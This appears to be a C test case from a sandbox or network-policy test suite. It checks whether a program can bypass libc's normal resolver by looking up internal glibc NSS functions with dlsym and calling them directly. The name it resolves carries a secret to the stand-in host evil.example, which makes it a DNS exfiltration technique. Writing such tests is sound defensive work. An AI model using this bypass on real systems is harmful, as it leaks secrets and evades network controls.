// class: network
// rule: outbound_connectivity
// policy: names.yaml
// success: a C program asks libc for its function of the DNS module, and calls it for a name that
//   carries data
// proof: query
// needs: resolver
#include "attack.h"
#include <dlfcn.h>
#include <netdb.h>

int main(void)
{
    int (*find)(void **, const char *, const char *, void **) =
        dlsym(RTLD_DEFAULT, "__nss_hosts_lookup2");
    int (*next)(void **, const char *, const char *, void **, int, int) =
        dlsym(RTLD_DEFAULT, "__nss_next2");
    void *module = NULL, *function = NULL;
    static char name[300], room[4096];
    struct hostent host;
    int error = 0, host_error = 0;
    snprintf(name, sizeof name, "%s.evil.example", SECRET_);
    if (!find || !next) return stopped("__nss_hosts_lookup2");
    int status = find(&module, "gethostbyname_r", NULL, &function);
    while (status == 0) {
        int (*look)(const char *, struct hostent *, char *, size_t, int *, int *) = function;
        if (look(name, &host, room, sizeof room, &error, &host_error) == 1) return reached();
        status = next(&module, "gethostbyname_r", NULL, &function, 0, 1);
    }
    errno = EACCES;
    return stopped("no module answered");
}
